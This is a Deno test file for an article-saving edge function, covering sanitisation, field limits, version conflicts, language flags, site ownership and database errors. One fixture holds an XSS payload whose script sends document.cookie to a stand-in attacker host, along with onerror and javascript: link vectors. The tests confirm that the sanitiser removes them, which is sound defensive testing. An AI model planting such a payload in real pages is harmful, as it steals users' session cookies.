import assert from "node:assert/strict";
import { UnauthenticatedError } from "../_shared/platform/user_auth.ts";
import type { SavedArticleRow } from "../_shared/contracts/article_save.ts";
import {
  type ArticleFields,
  type ArticleSave,
  ArticleConflictError,
  type ArticleStore,
  ArticleWriteError,
  createArticleStore,
} from "./article_store.ts";
import { articleInLanguage } from "../_testing/fakes/openai_article_languages.ts";
import { createHandler, MAX_BODY_BYTES } from "./handler.ts";
import { createClient } from "@supabase/supabase-js";
import type { Database } from "../_shared/contracts/database.types.ts";
import { withCapturedErrors } from "../_testing/captured_errors.ts";

const ALICE = "00000000-0000-4000-8000-00000000000a";
const BOB = "00000000-0000-4000-8000-00000000000b";
const ASSISTANT = "3f2b8c1e-2d4a-4b6c-8e9f-0a1b2c3d4e5f";

/**
 * Rows by id with their owner, as the table holds them, and every save the
 * store was asked for; ownership and versions as save_article() applies them.
 */
function memoryStore(refuse?: ArticleWriteError, settleFails = false) {
  const rows = new Map<string, SavedArticleRow & { user_id: string }>();
  const saves: ArticleSave[] = [];
  const settles: string[] = [];
  const store: ArticleStore = {
    settleLanguage(userId, articleId, version, locale) {
      settles.push(`${articleId} ${locale}`);
      if (settleFails) return Promise.reject(new Error("settling the article's language: connection reset"));
      const row = rows.get(articleId);
      if (!row || row.user_id !== userId || row.version !== version || !row.language_mismatch || (row.locale ?? "en") !== locale) {
        return Promise.resolve(null);
      }
      rows.set(articleId, { ...row, language_mismatch: false, version: row.version + 1 });
      return Promise.resolve(row.version + 1);
    },
    save(userId, save) {
      if (refuse) return Promise.reject(refuse);
      saves.push(save);
      if (!save.id) {
        const row = { ...toRow(crypto.randomUUID(), save.fields), user_id: userId };
        rows.set(row.id, row);
        return Promise.resolve(row);
      }
      const existing = rows.get(save.id);
      if (!existing || existing.user_id !== userId) return Promise.resolve(null);
      if (save.expectedVersion !== existing.version) {
        const { user_id: _owner, ...current } = existing;
        return Promise.reject(new ArticleConflictError(current));
      }
      const row = {
        ...existing,
        ...toRow(save.id, { assistant_id: existing.assistant_id, locale: existing.locale, ...save.fields }),
        // Only the drafting worker and settle_article_language write the flag.
        language_mismatch: existing.language_mismatch,
        version: existing.version + 1,
      };
      rows.set(save.id, row);
      return Promise.resolve(row);
    },
  };
  return { rows, saves, settles, store };
}

function toRow(id: string, fields: ArticleFields): SavedArticleRow {
  return {
    id,
    featured_image_url: null,
    created_at: "2026-11-22T12:00:00Z",
    assistant_id: null,
    version: 1,
    locale: null,
    language_mismatch: false,
    detected_locale: null,
    language_confirmed_at: null,
    ...fields,
  };
}

/** Sites of another user (as RLS would hide them from the caller); every other site id is the caller's. */
const OTHER_USERS_SITE = "50000000-0000-4000-8000-0000000000bb";

function harness(store: ArticleStore) {
  const handler = createHandler({
    authenticate: (req) => {
      const user = req.headers.get("x-test-user");
      return user ? Promise.resolve({ id: user }) : Promise.reject(new UnauthenticatedError());
    },
    store,
    sites: { unknown: (ids) => Promise.resolve(ids.filter((id) => id === OTHER_USERS_SITE)) },
  });
  return async (body: unknown, user: string | null = ALICE, raw?: string) => {
    const headers = new Headers({ "content-type": "application/json" });
    if (user) headers.set("x-test-user", user);
    const response = await handler(
      new Request("http://localhost/functions/v1/save-article", {
        method: "POST",
        headers,
        body: raw ?? JSON.stringify(body),
      }),
    );
    return { status: response.status, body: await response.json() };
  };
}

const article = (overrides: Record<string, unknown> = {}) => ({
  title: "Ten tips",
  content: "<p>Write well.</p>",
  excerpt: "Tips",
  metaDescription: "Meta",
  focusKeyword: "tips",
  slug: "ten-tips",
  categories: ["News"],
  tags: ["a", "b"],
  ...overrides,
});

const HOSTILE = '<p>Hi</p><script>fetch("https://evil.example/?c="+document.cookie)</script>' +
  '<img src="x" onerror="alert(1)"><a href="javascript:alert(1)">x</a><iframe src="https://evil.example"></iframe>';

Deno.test("save-article: a new draft is stored with its content sanitised, and the row comes back", async () => {
  const { rows, store } = memoryStore();
  const call = harness(store);
  const { status, body } = await call(article({ content: HOSTILE, assistantId: ASSISTANT, tags: [" a ", "", "a", "b"] }));
  assert.equal(status, 200, JSON.stringify(body));
  assert.equal(body.article.content, '<p>Hi</p><img src="x" /><a>x</a>');
  const stored = rows.get(body.article.id)!;
  assert.equal(stored.user_id, ALICE);
  assert.equal(stored.content, '<p>Hi</p><img src="x" /><a>x</a>');
  assert.deepEqual(
    [stored.status, stored.assistant_id, stored.tags, stored.scheduled_for, stored.scheduled_site_ids],
    ["draft", ASSISTANT, ["a", "b"], null, []],
  );
});

Deno.test("save-article: an update sanitises too, keeps the schedule only when scheduled, and stays the owner's", async () => {
  const { rows, store } = memoryStore();
  const call = harness(store);
  const { body: created } = await call(article());
  const id = created.article.id;
  const site = "50000000-0000-4000-8000-000000000001";
  const scheduled = await call(article({
    id,
    expectedVersion: 1,
    content: `<p>New</p>${HOSTILE}`,
    status: "scheduled",
    scheduledFor: "2030-01-01T10:00:00+02:00",
    scheduledSiteIds: [site],
    metaDescription: "",
  }));
  assert.equal(scheduled.status, 200, JSON.stringify(scheduled.body));
  assert.equal(rows.get(id)!.content, '<p>New</p><p>Hi</p><img src="x" /><a>x</a>');
  assert.deepEqual(
    [rows.get(id)!.scheduled_for, rows.get(id)!.scheduled_site_ids, rows.get(id)!.meta_description],
    ["2030-01-01T08:00:00.000Z", [site], null],
  );
  const drafted = await call(
    article({ id, expectedVersion: 2, status: "draft", scheduledFor: "2030-01-01T10:00:00Z", scheduledSiteIds: [site] }),
  );
  assert.equal(drafted.status, 200);
  assert.deepEqual([rows.get(id)!.scheduled_for, rows.get(id)!.scheduled_site_ids], [null, []]);

  const bobs = await call(article({ id, expectedVersion: 3, title: "Mallory" }), BOB);
  assert.deepEqual(bobs, { status: 404, body: { error: "Article not found", field: "id" } });
  assert.equal(rows.get(id)!.title, "Ten tips");
});

Deno.test("save-article: the article's language is stored when given, kept when an update names none", async () => {
  const { rows, saves, store } = memoryStore();
  const call = harness(store);
  const created = await call(article({ locale: "es-MX" }));
  assert.equal(created.status, 200, JSON.stringify(created.body));
  assert.equal(created.body.article.locale, "es-MX");
  const id = created.body.article.id;
  assert.equal(rows.get(id)!.locale, "es-MX");
  assert.equal(saves[0].fields.locale, "es-MX");

  const kept = await call(article({ id, expectedVersion: 1, title: "Diez consejos" }));
  assert.equal(kept.status, 200, JSON.stringify(kept.body));
  assert.ok(!("locale" in saves[1].fields), "an update that names no locale does not send one");
  assert.equal(rows.get(id)!.locale, "es-MX");

  const changed = await call(article({ id, expectedVersion: 2, locale: "de" }));
  assert.equal(changed.body.article.locale, "de");
  assert.equal(rows.get(id)!.locale, "de");
  const cleared = await call(article({ id, expectedVersion: 3, locale: null }));
  assert.equal(cleared.body.article.locale, null);
  assert.equal(rows.get(id)!.locale, null);

  const refused = await call(article({ id, expectedVersion: 4, locale: "klingon" }));
  assert.deepEqual(refused, {
    status: 400,
    body: {
      error: "locale: Choose one of the languages offered",
      field: "locale",
      issues: [{ path: ["locale"], message: "Choose one of the languages offered" }],
    },
  });
  assert.equal(saves.length, 4, "a refused locale reaches no store");
});

Deno.test("save-article: a draft held for its language is released once its text reads as its language, with the version that moved; other saves check nothing", async () => {
  const { rows, settles, store } = memoryStore();
  const call = harness(store);
  const english = {
    title: "How to cook paella at home",
    content: "<p>Paella is a rice dish from Valencia. Start with a wide pan, good olive oil and short grain rice, " +
      "then add the stock a little at a time and never stir once the rice has settled in the pan.</p>",
  };
  const spanish = articleInLanguage("es", "paella", (title) => title)!;
  const plain = await call(article());
  assert.deepEqual(settles, [], "an article without a flag is not checked");
  const id = plain.body.article.id;
  rows.set(id, { ...rows.get(id)!, locale: "es", language_mismatch: true });

  const stillEnglish = await call(article({ id, expectedVersion: 1, title: english.title, content: english.content }));
  assert.equal(stillEnglish.body.article.language_mismatch, true, "text still in English keeps the flag");
  assert.deepEqual(settles, [], "nothing to settle: the check found English");

  const corrected = await call(article({ id, expectedVersion: 2, title: spanish.title, content: spanish.content }));
  assert.equal(corrected.status, 200);
  assert.deepEqual(settles, [`${id} es`]);
  assert.equal(corrected.body.article.language_mismatch, false);
  assert.equal(corrected.body.article.version, 4, "the save moved the version, and so did clearing the flag");
  assert.equal(rows.get(id)!.language_mismatch, false);
  const next = await call(article({ id, expectedVersion: corrected.body.article.version, title: spanish.title, content: spanish.content }));
  assert.equal(next.status, 200, "the editor's next save starts from the version answered");

  rows.set(id, { ...rows.get(id)!, language_mismatch: true });
  const relabelled = await call(article({ id, expectedVersion: 5, title: english.title, content: english.content, locale: "en" }));
  assert.equal(relabelled.body.article.language_mismatch, false, "choosing the language it is written in releases it too");
});

Deno.test("save-article: a language flag that cannot be settled stays for the next save; the save is answered as made", async () => {
  const { rows, settles, store } = memoryStore(undefined, true);
  const call = harness(store);
  const spanish = articleInLanguage("es", "paella", (title) => title)!;
  const id = (await call(article())).body.article.id;
  rows.set(id, { ...rows.get(id)!, locale: "es", language_mismatch: true });
  await withCapturedErrors(async (logs) => {
    const saved = await call(article({ id, expectedVersion: 1, title: spanish.title, content: spanish.content }));
    assert.equal(saved.status, 200);
    assert.deepEqual([saved.body.article.version, saved.body.article.language_mismatch], [2, true]);
    assert.equal(settles.length, 1);
    assert.match(logs.join("\n"), /the language flag of a saved article stays/);
  });
});

Deno.test("save-article: every size limit is refused with the form's message", async () => {
  const { rows, store } = memoryStore();
  const call = harness(store);
  const cases: [Record<string, unknown>, string][] = [
    [{ title: "t".repeat(501) }, "title: Title must be at most 500 characters"],
    [{ content: "c".repeat(250_001) }, "content: Content must be at most 250,000 characters"],
    [{ excerpt: "e".repeat(2_001) }, "excerpt: Excerpt must be at most 2,000 characters"],
    [{ metaDescription: "m".repeat(321) }, "metaDescription: Meta description must be at most 320 characters"],
    [{ focusKeyword: "k".repeat(101) }, "focusKeyword: Focus keyword must be at most 100 characters"],
    [{ slug: "s".repeat(201) }, "slug: Slug must be at most 200 characters"],
    [{ categories: ["c".repeat(101)] }, "categories.0: Each category must be at most 100 characters"],
    [{ categories: Array.from({ length: 21 }, (_, i) => `c${i}`) }, "categories: Use at most 20 categories"],
    [{ tags: ["t".repeat(101)] }, "tags.0: Each tag must be at most 100 characters"],
    [{ tags: Array.from({ length: 51 }, (_, i) => `t${i}`) }, "tags: Use at most 50 tags"],
    [{ title: "  " }, "title: Title is required"],
    [{ content: "" }, "content: Content is required"],
    [{ excerpt: " " }, "excerpt: Excerpt is required"],
    [{ status: "published" }, "status: New articles are saved as drafts"],
    [{ id: crypto.randomUUID(), status: "scheduled" }, "scheduledFor: Please set a scheduled date"],
    [{ assistantId: "not-a-uuid" }, "assistantId: Please select an assistant"],
    [{ locale: "xx-YY" }, "locale: Choose one of the languages offered"],
    [{ locale: "ES" }, "locale: Choose one of the languages offered"],
    [{ locale: 7 }, "locale: Choose one of the languages offered"],
    // What PostgreSQL cannot store: refused naming the field, never a 500.
    [
      { id: crypto.randomUUID(), status: "scheduled", scheduledFor: "0000-06-01T09:00:00Z" },
      "scheduledFor: Please set a date between the years 1 and 9999",
    ],
    [
      { id: crypto.randomUUID(), status: "scheduled", scheduledFor: "0001-01-01T00:30:00+01:00" },
      "scheduledFor: Please set a date between the years 1 and 9999",
    ],
    [{ title: "Tea\u0000time" }, "title: Contains a NUL character (U+0000), which cannot be stored"],
    [
      { tags: ["ok", "\ud800"] },
      "tags.1: Contains an unpaired surrogate (a broken Unicode character), which cannot be stored",
    ],
  ];
  for (const [fields, message] of cases) {
    const { status, body } = await call(article(fields));
    assert.equal(status, 400, message);
    assert.equal(body.error, message);
  }
  const atLimits = await call(article({
    title: "t".repeat(500),
    content: `<p>${"c".repeat(249_993)}</p>`,
    excerpt: "e".repeat(2_000),
    metaDescription: "m".repeat(320),
    focusKeyword: "k".repeat(100),
    slug: "s".repeat(200),
    categories: Array.from({ length: 20 }, (_, i) => `${i}`.padEnd(100, "c")),
    tags: Array.from({ length: 50 }, (_, i) => `${i}`.padEnd(100, "t")),
  }));
  assert.equal(atLimits.status, 200, "everything at its limit is accepted");
  assert.equal(rows.size, 1);
});

Deno.test("save-article: a schedule with no target site is refused, saying why; nothing is stored", async () => {
  const { rows, saves, store } = memoryStore();
  const call = harness(store);
  const created = await call(article());
  const id = created.body.article.id;
  for (const sites of [{}, { scheduledSiteIds: [] }]) {
    const { status, body } = await call(
      article({ id, expectedVersion: 1, status: "scheduled", scheduledFor: "2030-01-01T10:00:00Z", ...sites }),
    );
    assert.equal(status, 400);
    assert.equal(
      body.error,
      "scheduledSiteIds: Choose at least one site to publish to: a schedule without a site publishes nowhere",
    );
    assert.equal(body.field, "scheduledSiteIds");
  }
  assert.equal(saves.length, 1, "only the first save reached the store");
  assert.equal(rows.get(id)!.status, "draft");
  // With a site it is accepted; a draft needs none.
  const site = crypto.randomUUID();
  const scheduled = await call(
    article({ id, expectedVersion: 1, status: "scheduled", scheduledFor: "2030-01-01T10:00:00Z", scheduledSiteIds: [site] }),
  );
  assert.equal(scheduled.status, 200, JSON.stringify(scheduled.body));
  assert.deepEqual(rows.get(id)!.scheduled_site_ids, [site]);
});

Deno.test("save-article: a schedule naming a site that is none of the caller's is refused; nothing is stored", async () => {
  const { rows, saves, store } = memoryStore();
  const call = harness(store);
  const created = await call(article());
  const id = created.body.article.id;
  const { status, body } = await call(
    article({
      id,
      expectedVersion: 1,
      status: "scheduled",
      scheduledFor: "2030-01-01T10:00:00Z",
      scheduledSiteIds: [crypto.randomUUID(), OTHER_USERS_SITE],
    }),
  );
  assert.equal(status, 400);
  assert.equal(body.error, "scheduledSiteIds: One of the chosen sites is not connected any more: choose the sites again");
  assert.equal(body.field, "scheduledSiteIds");
  assert.equal(saves.length, 1, "only the first save reached the store");
  assert.equal(rows.get(id)!.status, "draft");
});

Deno.test("save-article: content that is only unsafe HTML is refused, not stored empty", async () => {
  const { rows, store } = memoryStore();
  const { status, body } = await harness(store)(article({ content: "<script>alert(1)</script><style>*{}</style>" }));
  assert.equal(status, 400);
  assert.equal(
    body.error,
    "content: Content has nothing left once unsafe HTML (scripts, event handlers) is removed",
  );
  assert.equal(rows.size, 0);
});

Deno.test("save-article: a row the database refuses is a 400 naming the field, not a 500", async () => {
  for (
    const [constraint, code, error] of [
      ["articles_assistant_id_user_id_fkey", "23503", "assistantId: Please select an assistant"],
      ["articles_content_length", "23514", "content: Content must be at most 250,000 characters"],
      ["articles_tags_limits", "23514", "tags: Use at most 50 tags"],
      ["locale_tag_supported", "23514", "locale: Choose one of the languages offered"],
      [
        "articles_approved_before_scheduling",
        "23514",
        "status: Approve this draft before scheduling it (its batch asks for a review)",
      ],
    ]
  ) {
    const { store } = memoryStore(new ArticleWriteError(`violates constraint "${constraint}"`, code, constraint));
    const response = await harness(store)(article());
    assert.deepEqual([response.status, response.body.error], [400, error]);
  }
  const { store } = memoryStore(new ArticleWriteError("connection reset", undefined, undefined));
  await withCapturedErrors(async (logs) => {
    assert.deepEqual(await harness(store)(article()), { status: 500, body: { error: "Failed to save article" } });
    assert.deepEqual(logs, ["[save-article] unexpected failure: connection reset"]);
  });
});

Deno.test("save-article: an update against a newer version is a 409 with the article as it is now; nothing is written", async () => {
  const { rows, saves, store } = memoryStore();
  const call = harness(store);
  const { body: created } = await call(article());
  const id = created.article.id;
  assert.equal(created.article.version, 1);
  // Another tab saves first.
  const first = await call(article({ id, expectedVersion: 1, title: "From the other tab" }));
  assert.deepEqual([first.status, first.body.article.version], [200, 2]);
  // This tab started from version 1 too.
  const stale = await call(article({ id, expectedVersion: 1, title: "From this tab" }));
  assert.equal(stale.status, 409);
  assert.equal(stale.body.error, "This article was changed elsewhere since you opened it");
  assert.equal(stale.body.field, "expectedVersion");
  assert.deepEqual([stale.body.current.title, stale.body.current.version], ["From the other tab", 2]);
  assert.equal(rows.get(id)!.title, "From the other tab");
  assert.equal(saves.length, 3, "the stale save reached the store, which refused it");

  const unversioned = await call(article({ id, title: "No version" }));
  assert.deepEqual([unversioned.status, unversioned.body.error], [
    400,
    "expectedVersion: Say which version of the article this save started from",
  ]);
});

Deno.test("save-article: not signed in 401; an oversized body 413 before it is read", async () => {
  const { store } = memoryStore();
  const call = harness(store);
  assert.deepEqual(await call(article(), null), { status: 401, body: { error: "User not authenticated" } });
  const huge = await call(null, ALICE, JSON.stringify(article({ content: "x".repeat(MAX_BODY_BYTES) })));
  assert.equal(huge.status, 413);
});

Deno.test("save-article: a restore names its revision, needs a saved article, and a revision of another is a 400", async () => {
  const { rows, saves, store } = memoryStore();
  const call = harness(store);
  const { body: created } = await call(article());
  const id = created.article.id;
  assert.equal((await call(article({ id, expectedVersion: 1, title: "Restored", restoredFrom: 41 }))).status, 200);
  assert.deepEqual([saves.at(-1)!.restoredFrom, saves.at(-1)!.generatedDraft, rows.get(id)!.title], [41, undefined, "Restored"]);

  const refusals: [Record<string, unknown>, string][] = [
    [{ restoredFrom: 41 }, "restoredFrom: Only a saved article can be restored"],
    [{ id, expectedVersion: 2, restoredFrom: "41" }, "restoredFrom: Revision not found"],
    [{ id, expectedVersion: 2, restoredFrom: 0 }, "restoredFrom: Revision not found"],
    [{ id, expectedVersion: 2, restoredFrom: 1.5 }, "restoredFrom: Revision not found"],
    [{ id, expectedVersion: 2, restoredFrom: 41, generatedDraft: { title: "AI", content: "<p>AI</p>" } }, "generatedDraft: A restore cannot follow an AI draft"],
  ];
  for (const [fields, message] of refusals) {
    const { status, body } = await call(article(fields));
    assert.deepEqual([status, body.error], [400, message]);
  }
  assert.equal(saves.length, 2, "nothing refused reached the store");

  const { store: refusing } = memoryStore(
    new ArticleWriteError(
      'insert or update on table "article_revisions" violates foreign key constraint "article_revisions_restored_from_fkey"',
      "23503",
      "article_revisions_restored_from_fkey",
    ),
  );
  const foreign = await harness(refusing)(article({ id, expectedVersion: 2, restoredFrom: 7 }));
  assert.deepEqual([foreign.status, foreign.body.error], [400, "restoredFrom: Revision not found"]);
});

Deno.test("save-article: the AI draft a save follows is passed on sanitised, with its fields as the row's", async () => {
  const { saves, store } = memoryStore();
  const call = harness(store);
  const draft = {
    title: " AI title ",
    content: HOSTILE,
    excerpt: "",
    metaDescription: "",
    focusKeyword: "tips",
    slug: "",
    categories: ["News", "News", " "],
    tags: [" a ", "b"],
  };
  assert.equal((await call(article({ generatedDraft: draft }))).status, 200);
  assert.deepEqual(saves[0].generatedDraft, {
    title: "AI title",
    content: '<p>Hi</p><img src="x" /><a>x</a>',
    excerpt: "",
    meta_description: null,
    focus_keyword: "tips",
    slug: null,
    categories: ["News"],
    tags: ["a", "b"],
  });
  assert.equal((await call(article({ generatedDraft: { title: "Only minimum", content: "<p>c</p>" } }))).status, 200);
  assert.deepEqual(saves[1].generatedDraft?.categories, []);

  assert.equal((await call(article({ generatedDraft: { title: "Unsafe", content: "<script>alert(1)</script>" } }))).status, 200);
  assert.equal(saves[2].generatedDraft, undefined, "a draft with nothing left once sanitised is not kept");

  const tooLong = await call(article({ generatedDraft: { title: "t".repeat(501), content: "<p>c</p>" } }));
  assert.deepEqual([tooLong.status, tooLong.body.error], [400, "generatedDraft.title: Title must be at most 500 characters"]);
  assert.equal(saves.length, 3);
});

Deno.test("createArticleStore: one call to save_article() with the caller's id; constraint named on errors", async () => {
  const seen: { method: string; url: URL; body: unknown }[] = [];
  let answer = () => Response.json({ id: "a1" });
  const client = createClient<Database>("https://project.test", "sb_secret_test", {
    auth: { persistSession: false, autoRefreshToken: false },
    global: {
      fetch: async (input, init) => {
        const request = new Request(input, init);
        seen.push({ method: request.method, url: new URL(request.url), body: await request.json().catch(() => null) });
        return answer();
      },
    },
  });
  const store = createArticleStore(client);
  const writable: ArticleFields = {
    title: "T",
    content: "<p>c</p>",
    excerpt: "",
    status: "draft",
    meta_description: null,
    focus_keyword: null,
    slug: null,
    categories: [],
    tags: [],
    scheduled_for: null,
    scheduled_site_ids: [],
  };
  assert.deepEqual(await store.save(ALICE, { fields: writable }), { id: "a1" });
  assert.deepEqual([seen[0].method, seen[0].url.pathname], ["POST", "/rest/v1/rpc/save_article"]);
  assert.deepEqual(seen[0].body, { p_user_id: ALICE, p_article: writable });

  answer = () => Response.json(null);
  const draft = { ...writable, title: "AI" } as const;
  const { status: _status, scheduled_for: _at, scheduled_site_ids: _sites, ...draftText } = draft;
  assert.equal(await store.save(BOB, { id: "a1", fields: writable, generatedDraft: draftText }), null);
  assert.deepEqual(seen[1].body, { p_user_id: BOB, p_article: writable, p_article_id: "a1", p_generated_draft: draftText });
  await store.save(BOB, { id: "a1", fields: writable, restoredFrom: 12 });
  assert.deepEqual(seen[2].body, { p_user_id: BOB, p_article: writable, p_article_id: "a1", p_restored_from: 12 });
  await store.save(ALICE, { fields: { ...writable, locale: "fr-CA" } });
  assert.deepEqual(seen[3].body, { p_user_id: ALICE, p_article: { ...writable, locale: "fr-CA" } });

  answer = () =>
    Response.json({
      code: "23514",
      message: 'new row for relation "articles" violates check constraint "articles_slug_length"',
    }, { status: 400 });
  const error = await store.save(ALICE, { fields: writable }).catch((e) => e);
  assert.ok(error instanceof ArticleWriteError);
  assert.deepEqual([error.code, error.constraint], ["23514", "articles_slug_length"]);
});
